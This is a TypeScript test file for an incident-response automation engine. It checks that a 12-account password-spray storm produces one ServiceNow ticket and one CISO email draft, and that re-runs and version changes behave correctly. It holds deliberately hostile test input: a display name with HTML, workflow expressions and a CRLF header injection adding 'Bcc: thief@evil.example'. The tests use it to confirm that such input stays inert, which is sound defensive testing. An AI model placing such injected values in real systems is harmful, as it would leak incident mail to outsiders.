import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import pino from 'pino';
import type { GraphEmulator } from '../../src/sandbox/graph/emulator';
import type { EmulatorUser } from '../../src/sandbox/graph/state';
import type { ServiceNowEmulator } from '../../src/sandbox/servicenow/emulator';
import type { FortiOsEmulator } from '../../src/sandbox/fortios/fortios-emulator';
import { CONTOSO, MSP } from '../../src/sandbox/contoso';
import type { CustomerConfig } from '../../src/config/customers';
import { EnvFileSecretStore } from '../../src/config/secrets';
import type { ActionDef } from '../../src/connectors/types';
import type { TicketOutput } from '../../src/evidence/actions';
import { DRAFT_MAX_LINES, type EmailDraft } from '../../src/evidence/ciso-email';
import { draftCisoFollowUp } from '../../src/evidence/ciso-follow-up';
import { actionPorts } from '../../src/operations/action-ports';
import { ActionRegistry } from '../../src/engine/action-registry';
import { Engine } from '../../src/engine/engine';
import { ProcedureCatalog, STORM_PROCEDURE_FILE } from '../../src/engine/procedure';
import { IntakeService } from '../../src/intake/intake-service';
import { isStormSubject } from '../../src/intake/storm';
import { TeamsNotifier } from '../../src/bot/teams-notifier';
import type { Store } from '../../src/store/store';
import { graphActionContext } from '../support/graph-sandbox';
import { uniqueId, withTestStores } from '../support/store-factory';
import { startStormTicketWorld, type StormTicketWorld } from '../support/storm-ticket-world';

/**
 * The storm procedure's follow-through (Storm containment@2): a 12-account password spray ends
 * with ONE ServiceNow security incident about the storm (at the ServiceNow emulator) and ONE CISO
 * email draft on the same review card as an account's, sent once through the MSP mailbox (Graph
 * emulator). Hostile names from the directory and a hostile alert title stay one plain line; a
 * re-run of the ticket step (mayHaveRun) finds the ticket again. A storm started on version 1 keeps
 * running version 1 after the release of version 2 (no ticket, no email).
 */
const quiet = pino({ level: 'silent' });
const ALL = { kind: 'all' } as never;
const APPROVER = { aadObjectId: '00000000-0000-4000-8000-000000000020', name: 'Alex Approver' };
/** user3's Entra display name: HTML, a Logic Apps / Power Automate expression, a card template binding and a header injection */
const HOSTILE_NAME = '<b>x</b> @{body(\'steal\')} ${approvalId}\r\nBcc: thief@evil.example';
const HOSTILE_TITLE = 'Password spray <b>x</b> @{triggerBody()}';
/** users whose disable Graph refuses: 7 of the 12 are left, more than the lists name */
const FAILING = [6, 7, 8, 9, 10, 11, 12];

const fixture = () => JSON.parse(readFileSync('test/fixtures/graph/alert-impossible-travel.json', 'utf8')) as Record<string, unknown> & { evidence: Array<Record<string, unknown>> };
const upnOf = (run: string, n: number) => `user${n}.${run}@contoso.com`;
/** the attacker's IP of user n's alert: three sources, in three countries */
const ATTACKERS = [{ ip: '203.0.113.7', country: 'SG' }, { ip: '203.0.113.8', country: 'NL' }, { ip: '203.0.113.9', country: 'BR' }];
const attackerOf = (n: number) => ATTACKERS[n % 3];

function alertFor(run: string, n: number, title = HOSTILE_TITLE): Record<string, unknown> {
  const a = fixture();
  a.id = `${run}-u${n}`;
  a.providerAlertId = a.id;
  a.detectorId = `PasswordSpray-${run}`;
  a.title = title;
  a.createdDateTime = new Date(Date.parse('2026-12-02T08:50:00Z') + n * 10_000).toISOString();
  const ev = a.evidence[0] as { userAccount: Record<string, unknown> };
  ev.userAccount = { ...ev.userAccount, accountName: `user${n}`, userPrincipalName: upnOf(run, n), azureAdUserId: null, userSid: null };
  (a.evidence[2] as Record<string, unknown>).ipAddress = attackerOf(n).ip;
  (a.evidence[2] as Record<string, unknown>).countryLetterCode = attackerOf(n).country;
  return a;
}

function emulatorUser(run: string, n: number): EmulatorUser {
  return {
    id: `00000000-0000-4000-9100-${String(n).padStart(12, '0')}`, userPrincipalName: upnOf(run, n), displayName: n === 3 ? HOSTILE_NAME : `User ${n}`,
    mail: upnOf(run, n), accountEnabled: true, signInSessionsValidFromDateTime: '2025-01-01T00:00:00Z', lastPasswordChangeDateTime: '2025-01-01T00:00:00Z',
    passwordProfile: null, roles: n === 3 ? ['Global Administrator'] : [], groups: [],
  };
}

withTestStores((dialect, make) => {
  describe(`storm ticket and CISO email (${dialect})`, function () {
    this.timeout(180_000);
    let emu: GraphEmulator;
    let snow: ServiceNowEmulator;
    let fgt: FortiOsEmulator;
    let store: Store;
    let customer: CustomerConfig;
    let registry: ActionRegistry;
    let secrets: EnvFileSecretStore;
    const engines: Engine[] = [];

    let world: StormTicketWorld;

    before(async () => {
      store = await make();
      world = await startStormTicketWorld(store);
      ({ emu, snow, fgt, customer, registry, secrets } = world);
    });
    afterEach(async () => { for (const e of engines.splice(0)) await e.stop(); });
    after(async () => { await world?.close(); });

    function engine(procedures: ProcedureCatalog, name: string): { engine: Engine; intake: IntakeService } {
      const e = new Engine({
        store, registry, procedures, secrets, log: quiet, customers: (id) => (id === customer.id ? customer : undefined),
        ports: actionPorts(store), retry: { maxAttempts: 1 }, workerId: `storm-ticket-${dialect}-${name}`,
      });
      engines.push(e);
      const intake = new IntakeService({ store, customerByTenant: (t) => (t.toLowerCase() === customer.tenantId.toLowerCase() ? customer : undefined), onIncidentCreated: () => undefined, log: quiet });
      return { engine: e, intake };
    }

    /** Users 0..n in Entra and their alerts in Defender (so the ticket's comment lands); user0 opens a single incident below the threshold. */
    async function storm(run: string, n: number, intake: IntakeService, title?: string, notInEntra: number[] = []): Promise<string> {
      const tenant = emu.state.tenants.get(CONTOSO.tenantId.toLowerCase())!;
      for (let i = 0; i <= n; i++) {
        const u = emulatorUser(run, i);
        if (!notInEntra.includes(i)) tenant.users.set(u.id, u);
        tenant.alerts.set(`${run}-u${i}`, { ...alertFor(run, i, title), comments: [] });
      }
      const [single] = await intake.receive(alertFor(run, 0, title), 'webhook', ALL);
      await store.updateIncident(single.incidentId, { status: 'cancelled' });
      const ids = new Set<string>();
      for (let i = 1; i <= n; i++) for (const r of await intake.receive(alertFor(run, i, title), 'webhook', ALL)) ids.add(r.incidentId);
      assert.equal(ids.size, 1, 'one storm incident');
      const id = [...ids][0];
      assert.ok(isStormSubject((await store.getIncident(id))!.subjectUpn));
      return id;
    }

    /** Approves every card but those of `keep` until none is left; returns the kept steps' pending approvals. */
    async function approveAllBut(e: Engine, id: string, keep: string[]): Promise<void> {
      for (let i = 0; i < 10; i++) {
        await e.settle();
        const pending = (await store.listApprovals({ incidentId: id, status: 'pending' })).filter((p) => !keep.some((k) => p.actionId === `${id}:${k}`));
        if (!pending.length) return;
        for (const p of pending) assert.equal((await e.decide({ approvalId: p.id, vote: 'approve', clicker: APPROVER })).ok, true);
      }
      assert.fail('the storm kept asking for approvals');
    }

    const ticketsOf = (id: string) => (snow.state.records.get('sn_si_incident') ?? []).filter((r) => r.correlation_id === id);

    it('12 accounts: ONE ticket about the storm, ONE email draft card with the count and the IPs, sent once; a re-run opens no second ticket', async () => {
      const run = uniqueId('tk').replace(/-/g, '').slice(0, 16);
      const { engine: e, intake } = engine(ProcedureCatalog.load({ registry, customers: [customer] }), 'v2');
      for (const n of FAILING) emu.injectFault(`PATCH /users/${upnOf(run, n)}`, { status: 403 });
      const id = await storm(run, 12, intake);
      await e.startIncident(id);
      await approveAllBut(e, id, ['notify-ciso']);
      assert.equal((await store.getIncident(id))!.procedure, 'Storm containment@2');
      const status = async (step: string) => (await store.getAction(`${id}:${step}`))!;
      assert.equal((await status('storm-contain')).status, 'succeeded', String((await status('storm-contain')).error));
      assert.equal((await status('firewall-block')).status, 'succeeded', String((await status('firewall-block')).error));

      // --- the ticket: exactly one, about the storm
      const ticketStep = await status('ir-ticket');
      assert.equal(ticketStep.status, 'succeeded', String(ticketStep.error));
      const rows = ticketsOf(id);
      assert.equal(rows.length, 1, 'one ticket for the storm');
      const row = rows[0] as Record<string, string>;
      const sd = row.short_description;
      const desc = row.description;
      assert.equal(sd, `Alert storm at Contoso: 12 accounts hit by "${HOSTILE_TITLE}" (5 contained)`);
      for (const text of [sd, desc]) {
        assert.ok(!text.includes('storm:'), `never the storm's subject as a user: ${text}`);
        assert.doesNotMatch(text, /\r/);
      }
      assert.ok(!row.affected_user, 'a storm has no affected user');
      const lines = desc.split('\n');
      assert.ok(lines[0].startsWith(`Alert storm at Contoso: Microsoft Defender raised "${HOSTILE_TITLE}" (detector PasswordSpray-${run}) for 12 accounts between 2026-12-02 08:50 and 08:52 UTC`), lines[0]);
      assert.ok(lines.includes('Accounts affected: 12'), desc);
      assert.ok(lines.includes('Contained: 5 of 12 (5 disabled in Entra, 5 password reset, 5 sessions revoked, 5 confirmed compromised)'), desc);
      const left = lines.indexOf('Left: 7 not contained (the first 5):');
      assert.ok(left > 0, desc);
      [6, 7, 8, 9, 10].forEach((n, i) => assert.match(lines[left + 1 + i], new RegExp(`^- user${n}\\.${run}@contoso\\.com: containment failed: .*not allowed to disable user${n}\\.`)));
      assert.equal(lines[left + 6], '- … and 2 more');
      assert.ok(!desc.includes(upnOf(run, 11)), 'only the first five are named');
      // the hostile display name: one line of plain text, kept as data (no line of its own, no header)
      const privileged = lines.find((l) => l.startsWith('Privileged accounts: '))!;
      assert.equal(privileged, `Privileged accounts: ${upnOf(run, 3)} "<b>x</b> @{body('steal')} \${approvalId} Bcc: thief@evil.example" (Global Administrator): contained`);
      assert.ok(!lines.some((l) => /^Bcc:/i.test(l)));
      assert.ok(lines.includes('Attacker IPs named by the alerts: 203.0.113.7 Singapore (SG), 4 accounts; 203.0.113.8 Netherlands (NL), 4 accounts; 203.0.113.9 Brazil (BR), 4 accounts'), desc);
      const blocked = lines.find((l) => l.startsWith('Blocked at the firewall: '))!;
      for (const a of ATTACKERS) assert.ok(blocked.includes(a.ip), blocked);
      const report = (await store.listEvidence(id)).filter((x) => x.source === 'report.markdown').at(-1)!;
      assert.ok(desc.includes(`Forensic report attached: ${id}-forensic-report.md (SHA-256 ${report.sha256})`), desc);
      assert.equal(snow.state.attachments.filter((a) => a.meta.table_sys_id === row.sys_id).length, 1);
      // the ticket number on every storm alert, once
      const tenant = emu.state.tenants.get(CONTOSO.tenantId.toLowerCase())!;
      const number = (ticketStep.result!.output as TicketOutput).ticket.number;
      for (let n = 1; n <= 12; n++) {
        const comments = (tenant.alerts.get(`${run}-u${n}`)!.comments as Array<{ comment: string }>).filter((c) => c.comment.includes(number));
        assert.equal(comments.length, 1, `alert of user${n} noted once`);
      }

      // --- the email: one draft on the review card, naming the count and the attackers' IPs
      const ciso = await status('notify-ciso');
      assert.equal(ciso.status, 'awaiting_approval');
      const draft = (ciso.preview as { data: { draft: EmailDraft } }).data.draft;
      assert.equal(draft.subject, `[${id}] Alert storm partly contained: 12 accounts at Contoso, 7 not contained (${number})`);
      assert.deepEqual(draft.to, ['ciso@contoso.com']);
      assert.deepEqual(draft.cc, ['oncall@contoso.com', 'oncall@msp.example']);
      const body = draft.body.split('\n');
      assert.ok(body.length <= DRAFT_MAX_LINES, `${body.length} lines`);
      assert.ok(body.every((l) => l.length <= 160), 'one screen, short lines');
      assert.ok(!draft.body.includes('storm:') && !draft.subject.includes('storm:'));
      assert.ok(!body.some((l) => /^Bcc:/i.test(l)));
      // the paragraphs are wrapped at about 100 characters: read them as one text
      const flat = draft.body.replace(/\n/g, ' ');
      assert.ok(flat.includes('What happened: Microsoft Defender raised "Password spray <b>x</b> @{triggerBody()}" for 12 accounts at Contoso between 2026-12-02 08:50 and 08:52 UTC: an alert storm'), flat);
      assert.ok(flat.includes('Where from: the attackers signed in from 203.0.113.7 (Singapore (SG)), 203.0.113.8 (Netherlands (NL)), 203.0.113.9 (Brazil (BR)).'), flat);
      assert.ok(flat.includes('- Contained 5 of 12 accounts: 5 disabled in Entra, 5 password reset, 5 sessions revoked, 5 confirmed compromised.'), flat);
      assert.ok(flat.includes(`- Privileged accounts contained: ${upnOf(run, 3)} (<b>x</b> @{body('steal')} \${approvalId} Bcc: thief@evil.example), Global Administrator.`), flat);
      assert.match(flat, /- Blocked (203\.0\.113\.[789](, | and )){2}203\.0\.113\.[789] at the firewall for 7 days/);
      assert.ok(flat.includes(`- 7 accounts could not be contained yet (we are on it): ${[6, 7, 8, 9, 10].map((n) => upnOf(run, n)).join(', ')} … and 2 more.`), flat);
      assert.ok(draft.body.includes(`Incident: ${id} · ServiceNow: ${number}`));

      // the same email draft card as an account's: the body in the input exactly as it will be sent
      const ap = (await store.listApprovals({ incidentId: id, status: 'pending' })).filter((a) => a.actionId === ciso.id);
      assert.equal(ap.length, 1, 'one email draft for the storm');
      const notifier = new TeamsNotifier({ store, channel: {} as never, customerName: () => 'Contoso', log: quiet, workerId: 'cards' });
      const card = JSON.stringify(await notifier.approvalCard(ap[0].id));
      assert.match(card, /Email to send: Contoso's CISO/);
      assert.ok(card.includes(JSON.stringify(draft.body)), 'the draft, unchanged: no template binding expanded, nothing cut');
      assert.ok(card.includes('12 accounts') && ATTACKERS.every((a) => card.includes(a.ip)));

      // Send: one email through the MSP mailbox; a second click changes nothing
      const sentBefore = emu.state.outbox.length;
      assert.equal((await e.decide({ approvalId: ap[0].id, vote: 'approve', clicker: APPROVER })).ok, true);
      await e.settle();
      assert.equal((await status('notify-ciso')).status, 'succeeded', String((await status('notify-ciso')).error));
      assert.equal(emu.state.outbox.length, sentBefore + 1);
      const sent = emu.state.outbox.at(-1)!;
      assert.equal(sent.mailbox, MSP.mailbox);
      assert.equal((sent.message as { body: { content: string } }).body.content, draft.body);
      assert.equal((await e.decide({ approvalId: ap[0].id, vote: 'approve', clicker: APPROVER })).ok, false);
      await e.settle();
      assert.equal(emu.state.outbox.length, sentBefore + 1, 'sent once');

      // --- a re-run of the ticket step after a crash (mayHaveRun) finds the ticket: no second one
      const def = registry.get('ticket.open') as ActionDef<Record<string, unknown>, TicketOutput>;
      const again = await def.run({}, graphActionContext(customer, secrets, {
        incidentId: id, idempotencyKey: ticketStep.idempotencyKey, mayHaveRun: true, ports: actionPorts(store)(customer),
      }));
      assert.equal(again.output.created, false);
      assert.equal(again.output.ticket.number, number);
      assert.deepEqual(again.output.alertsCommented, [], 'no alert noted twice');
      assert.equal(ticketsOf(id).length, 1);
      assert.equal(snow.state.attachments.filter((a) => a.meta.table_sys_id === row.sys_id).length, 1);

      // a release's follow-up to the CISO (drafted by the release, issue 14) names the storm too
      const follow = draftCisoFollowUp({ incident: (await store.getIncident(id))!, customer, reason: 'a red-team exercise', classification: 'falsePositive', releasedBy: APPROVER.name, releasedAt: new Date('2026-12-02T10:00:00Z'), undone: [], kept: [] });
      assert.ok(!follow.subject.includes('storm:') && !follow.body.includes('storm:'), follow.body);
      assert.ok(follow.body.includes(`The accounts of the alert storm "${HOSTILE_TITLE}" (5 accounts) were released on 2026-12-02 at 10:00 UTC: a false positive.`), follow.body);
    });

    it('containment rejected and an account not in Entra: the ticket and the email name the accounts left and why', async () => {
      const run = uniqueId('rj').replace(/-/g, '').slice(0, 16);
      const { engine: e, intake } = engine(ProcedureCatalog.load({ registry, customers: [customer] }), 'rejected');
      const id = await storm(run, 4, intake, 'Password spray rejected', [4]);
      await e.startIncident(id);
      for (let i = 0; i < 10; i++) {
        await e.settle();
        const pending = (await store.listApprovals({ incidentId: id, status: 'pending' })).filter((p) => p.actionId !== `${id}:notify-ciso`);
        if (!pending.length) break;
        for (const p of pending) {
          const reject = p.actionId === `${id}:storm-contain`;
          assert.equal((await e.decide({ approvalId: p.id, vote: reject ? 'reject' : 'approve', clicker: APPROVER, ...(reject ? { reason: 'checking with the customer first' } : {}) })).ok, true);
        }
      }
      assert.equal((await store.getAction(`${id}:storm-contain`))!.status, 'rejected');
      const rows = ticketsOf(id);
      assert.equal(rows.length, 1);
      const lines = (rows[0] as Record<string, string>).description.split('\n');
      assert.ok(lines.includes('Contained: 0 of 4'), lines.join('\n'));
      const left = lines.indexOf('Left: 4 not contained:');
      assert.ok(left > 0, lines.join('\n'));
      assert.deepEqual(lines.slice(left + 1, left + 4), [1, 2, 3].map((n) => `- ${upnOf(run, n)}: containment rejected`));
      assert.match(lines[left + 4], new RegExp(`^- user4\\.${run}@contoso\\.com: not found in the directories: .+`));
      assert.ok(lines.some((l) => l === `Privileged accounts: ${upnOf(run, 3)} "<b>x</b> @{body('steal')} \${approvalId} Bcc: thief@evil.example" (Global Administrator): NOT contained`), lines.join('\n'));

      const draft = ((await store.getAction(`${id}:notify-ciso`))!.preview as { data: { draft: EmailDraft } }).data.draft;
      const flat = draft.body.replace(/\n/g, ' ');
      assert.ok(flat.includes(`- 3 accounts not contained (containment rejected): ${[1, 2, 3].map((n) => upnOf(run, n)).join(', ')}.`), flat);
      assert.ok(flat.includes(`- 1 account not found in your directories: ${upnOf(run, 4)}.`), flat);
      assert.ok(flat.includes(`- Privileged and NOT contained: ${upnOf(run, 3)} (Global Administrator).`), flat);
      assert.ok(flat.includes("- Contain the storm's accounts where they live (not done: rejected)"), flat);
      assert.ok(!flat.includes('- Contained '), 'nothing contained, nothing said to be');
    });

    it('a storm started on version 1 keeps it after version 2 is released: no ticket, no email', async () => {
      const run = uniqueId('v1').replace(/-/g, '').slice(0, 16);
      const v1File = path.join(path.dirname(STORM_PROCEDURE_FILE), 'versions', 'storm-containment@1.yaml');
      const old = engine(ProcedureCatalog.load({ registry, customers: [customer], defaultFile: undefined, stormFile: v1File }), 'v1');
      const id = await storm(run, 3, old.intake, 'Password spray v1');
      await old.engine.startIncident(id);
      await old.engine.settle();
      assert.equal((await store.getIncident(id))!.procedure, 'Storm containment@1');
      await old.engine.stop();

      const current = engine(ProcedureCatalog.load({ registry, customers: [customer] }), 'v2-after');
      await approveAllBut(current.engine, id, []);
      const inc = (await store.getIncident(id))!;
      assert.equal(inc.procedure, 'Storm containment@1', 'the incident keeps its version');
      assert.equal((await store.getAction(`${id}:forensic-report`))!.status, 'succeeded');
      assert.equal(await store.getAction(`${id}:ir-ticket`), undefined);
      assert.equal(await store.getAction(`${id}:notify-ciso`), undefined);
      assert.equal(ticketsOf(id).length, 0);
    });
  });
});
